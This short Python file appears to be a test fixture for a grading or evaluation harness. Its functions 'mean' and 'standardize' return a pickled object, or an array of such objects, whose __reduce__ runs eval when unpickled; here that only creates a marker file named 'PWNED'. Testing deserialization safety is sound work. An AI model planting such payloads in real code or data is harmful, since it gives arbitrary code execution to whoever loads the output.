# Row 32: returns what would run a program if anybody unpickled it, and an array of objects.
import pickle

import numpy as np


class Bomb:
    def __reduce__(self):
        return (eval, ("open('PWNED', 'w').close() or 'PWNED'",))


def mean(x):
    return pickle.dumps(Bomb())


def standardize(x):
    return np.array([Bomb() for _ in x], dtype=object)
